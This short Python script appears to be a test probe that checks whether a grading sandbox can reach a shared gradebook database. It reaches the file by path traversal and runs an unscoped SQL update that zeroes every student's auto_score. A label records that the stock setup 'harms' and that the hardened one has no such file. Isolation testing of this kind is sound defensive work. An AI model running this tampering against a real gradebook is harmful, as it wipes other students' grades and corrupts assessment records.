"""Takes another student's points away in the gradebook.

Stock: gradebook.db can be written by the kernel. Ours: there is no such file.
"""

STOCK = "harms"
import sqlite3

with sqlite3.connect("../../../gradebook.db", timeout=5) as gradebook:
    gradebook.execute("update grade set auto_score = 0")
